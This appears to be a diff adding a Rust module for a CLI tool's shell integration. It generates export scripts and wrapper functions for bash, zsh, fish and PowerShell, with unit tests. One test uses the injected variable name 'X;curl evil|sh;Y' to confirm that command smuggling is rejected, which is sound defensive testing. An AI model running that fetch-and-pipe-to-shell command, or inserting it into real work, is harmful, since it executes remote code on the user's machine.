@@ -0,0 +1,244 @@
+// Shell integration: `ccm shell-init` and `ccm use --shell`
+//
+// `ccm use NAME --shell SHELL` prints statements that set the entry's
+// variables instead of appending them to an rc file, and `ccm shell-init
+// SHELL` prints a `ccm` function that evaluates them, so `ccm use` changes
+// the current shell. The statements also set CCM_ACTIVE_ENTRY (shown by the
+// prompt segment) and CCM_ACTIVE_VARS, whose variables the next `ccm use`
+// in the same shell unsets.
+
+use crate::presets::file::is_var_name;
+use crate::utils::{CcmError, Result};
+use clap_complete::Shell;
+use std::collections::HashMap;
+
+/// Name of the entry applied in this shell
+pub const ACTIVE_ENTRY_ENV: &str = "CCM_ACTIVE_ENTRY";
+/// Space-separated variables that entry set
+pub const ACTIVE_VARS_ENV: &str = "CCM_ACTIVE_VARS";
+
+fn unsupported(shell: Shell) -> CcmError {
+    CcmError::InvalidArgument(format!(
+        "No shell integration for {}; use bash, zsh, fish or powershell",
+        shell
+    ))
+}
+
+/// Statements setting `vars` for entry `name` and unsetting what the
+/// previous entry of this shell set (read from CCM_ACTIVE_VARS)
+/// Names are written unquoted, so anything but `[A-Za-z_][A-Za-z0-9_]*` is
+/// refused (or, from CCM_ACTIVE_VARS, skipped)
+pub fn export_script(shell: Shell, name: &str, vars: &HashMap<String, String>) -> Result<String> {
+    if let Some(var) = vars.keys().find(|var| !is_var_name(var)) {
+        return Err(CcmError::InvalidArgument(format!(
+            "Entry '{}' sets '{}', which is not a valid environment variable name",
+            name, var
+        )));
+    }
+
+    let previous = std::env::var(ACTIVE_VARS_ENV).unwrap_or_default();
+    let mut unset: Vec<&str> = previous
+        .split_whitespace()
+        .filter(|var| is_var_name(var) && !vars.contains_key(*var))
+        .collect();
+    unset.sort();
+    unset.dedup();
+
+    let mut names: Vec<&String> = vars.keys().collect();
+    names.sort();
+    let active_vars = names
+        .iter()
+        .map(|name| name.as_str())
+        .collect::<Vec<_>>()
+        .join(" ");
+    let mut set: Vec<(&str, &str)> = names
+        .iter()
+        .map(|var| (var.as_str(), vars[*var].as_str()))
+        .collect();
+    set.push((ACTIVE_ENTRY_ENV, name));
+    set.push((ACTIVE_VARS_ENV, &active_vars));
+
+    let mut script = String::new();
+    for var in unset {
+        script.push_str(&match shell {
+            Shell::Bash | Shell::Zsh => format!("unset {}\n", var),
+            Shell::Fish => format!("set -e {}\n", var),
+            Shell::PowerShell => {
+                format!("Remove-Item Env:{} -ErrorAction SilentlyContinue\n", var)
+            }
+            _ => return Err(unsupported(shell)),
+        });
+    }
+    for (var, value) in set {
+        script.push_str(&match shell {
+            Shell::Bash | Shell::Zsh => format!("export {}={}\n", var, quote_posix(value)),
+            Shell::Fish => format!("set -gx {} {}\n", var, quote_fish(value)),
+            Shell::PowerShell => format!("$env:{} = {}\n", var, quote_powershell(value)),
+            _ => return Err(unsupported(shell)),
+        });
+    }
+    Ok(script)
+}
+
+/// The `ccm` wrapper function, and the prompt segment unless `prompt` is off
+pub fn init_script(shell: Shell, prompt: bool) -> Result<String> {
+    let (wrapper, segment) = match shell {
+        Shell::Bash => (POSIX_WRAPPER.replace("{shell}", "bash"), BASH_PROMPT),
+        Shell::Zsh => (POSIX_WRAPPER.replace("{shell}", "zsh"), ZSH_PROMPT),
+        Shell::Fish => (FISH_WRAPPER.to_string(), FISH_PROMPT),
+        Shell::PowerShell => (POWERSHELL_WRAPPER.to_string(), POWERSHELL_PROMPT),
+        _ => return Err(unsupported(shell)),
+    };
+    let mut script = format!(
+        "# ccm shell integration ({}): `ccm use` sets variables in this shell\n{}",
+        shell, wrapper
+    );
+    if prompt {
+        script.push_str(segment);
+    }
+    Ok(script)
+}
+
+fn quote_posix(value: &str) -> String {
+    format!("'{}'", value.replace('\'', r"'\''"))
+}
+
+fn quote_fish(value: &str) -> String {
+    format!("'{}'", value.replace('\\', r"\\").replace('\'', r"\'"))
+}
+
+fn quote_powershell(value: &str) -> String {
+    // Curly quotes also end a single-quoted string in PowerShell
+    let escaped: String = value
+        .chars()
+        .flat_map(|c| match c {
+            '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}' => vec![c, c],
+            _ => vec![c],
+        })
+        .collect();
+    format!("'{}'", escaped)
+}
+
+const POSIX_WRAPPER: &str = r#"ccm() {
+    if [ "$1" = "use" ]; then
+        shift
+        case " $* " in
+            *" -h "* | *" --help "*) command ccm use "$@"; return ;;
+        esac
+        local __ccm_script
+        __ccm_script="$(command ccm use --shell {shell} "$@")" || return
+        eval "$__ccm_script"
+    else
+        command ccm "$@"
+    fi
+}
+"#;
+
+const BASH_PROMPT: &str = r#"__ccm_prompt() {
+    [ -n "$CCM_ACTIVE_ENTRY" ] && printf '(%s) ' "$CCM_ACTIVE_ENTRY"
+}
+case "$PS1" in
+    *__ccm_prompt*) ;;
+    *) PS1='$(__ccm_prompt)'"$PS1" ;;
+esac
+"#;
+
+const ZSH_PROMPT: &str = r#"__ccm_prompt() {
+    [ -n "$CCM_ACTIVE_ENTRY" ] && printf '(%s) ' "$CCM_ACTIVE_ENTRY"
+}
+setopt prompt_subst
+case "$PROMPT" in
+    *__ccm_prompt*) ;;
+    *) PROMPT='$(__ccm_prompt)'"$PROMPT" ;;
+esac
+"#;
+
+const FISH_WRAPPER: &str = r#"function ccm
+    if test "$argv[1]" = use; and not contains -- -h $argv; and not contains -- --help $argv
+        set -l script (command ccm use --shell fish $argv[2..-1]); or return
+        string join \n -- $script | source
+    else
+        command ccm $argv
+    end
+end
+"#;
+
+const FISH_PROMPT: &str = r#"function __ccm_prompt
+    set -q CCM_ACTIVE_ENTRY; and printf '(%s) ' $CCM_ACTIVE_ENTRY
+end
+if functions -q fish_prompt; and not functions -q __ccm_original_prompt
+    functions -c fish_prompt __ccm_original_prompt
+    function fish_prompt
+        __ccm_prompt
+        __ccm_original_prompt
+    end
+end
+"#;
+
+const POWERSHELL_WRAPPER: &str = r#"$global:__CcmExe = (Get-Command ccm -CommandType Application | Select-Object -First 1).Source
+function global:ccm {
+    if ($args.Count -ge 1 -and $args[0] -eq 'use' -and -not ($args -contains '-h' -or $args -contains '--help')) {
+        $rest = @($args | Select-Object -Skip 1)
+        $script = & $global:__CcmExe use --shell powershell @rest
+        if ($LASTEXITCODE -ne 0) { return }
+        $script -join "`n" | Invoke-Expression
+    } else {
+        & $global:__CcmExe @args
+    }
+}
+"#;
+
+const POWERSHELL_PROMPT: &str = r#"function global:__CcmPrompt {
+    if ($env:CCM_ACTIVE_ENTRY) { "($env:CCM_ACTIVE_ENTRY) " }
+}
+if (-not (Test-Path Function:\__CcmOriginalPrompt)) {
+    Copy-Item Function:\prompt Function:\global:__CcmOriginalPrompt
+    function global:prompt { "$(__CcmPrompt)$(__CcmOriginalPrompt)" }
+}
+"#;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_export_script() {
+        let vars = HashMap::from([
+            ("API_KEY".to_string(), "it's $HOME".to_string()),
+            ("BASE_URL".to_string(), "https://x".to_string()),
+        ]);
+
+        let bash = export_script(Shell::Bash, "work", &vars).unwrap();
+        assert!(bash.contains("export API_KEY='it'\\''s $HOME'\n"));
+        assert!(bash.contains("export CCM_ACTIVE_ENTRY='work'\n"));
+        assert!(bash.contains("export CCM_ACTIVE_VARS='API_KEY BASE_URL'\n"));
+
+        let fish = export_script(Shell::Fish, "work", &vars).unwrap();
+        assert!(fish.contains("set -gx API_KEY 'it\\'s $HOME'\n"));
+
+        let powershell = export_script(Shell::PowerShell, "work", &vars).unwrap();
+        assert!(powershell.contains("$env:API_KEY = 'it''s $HOME'\n"));
+        assert_eq!(quote_powershell("a\u{2019}b"), "'a\u{2019}\u{2019}b'");
+
+        assert!(export_script(Shell::Elvish, "work", &vars).is_err());
+
+        // A crafted name would run as code in the eval'ing shell
+        let evil = HashMap::from([("X;curl evil|sh;Y".to_string(), "1".to_string())]);
+        assert!(export_script(Shell::Bash, "work", &evil).is_err());
+    }
+
+    #[test]
+    fn test_init_script() {
+        let bash = init_script(Shell::Bash, true).unwrap();
+        assert!(bash.contains("command ccm use --shell bash \"$@\""));
+        assert!(bash.contains("PS1="));
+        assert!(!init_script(Shell::Zsh, false).unwrap().contains("PROMPT"));
+        assert!(init_script(Shell::Fish, true)
+            .unwrap()
+            .contains("use --shell fish"));
+        assert!(init_script(Shell::PowerShell, true)
+            .unwrap()
+            .contains("use --shell powershell"));
+        assert!(init_script(Shell::Elvish, true).is_err());
+    }
+}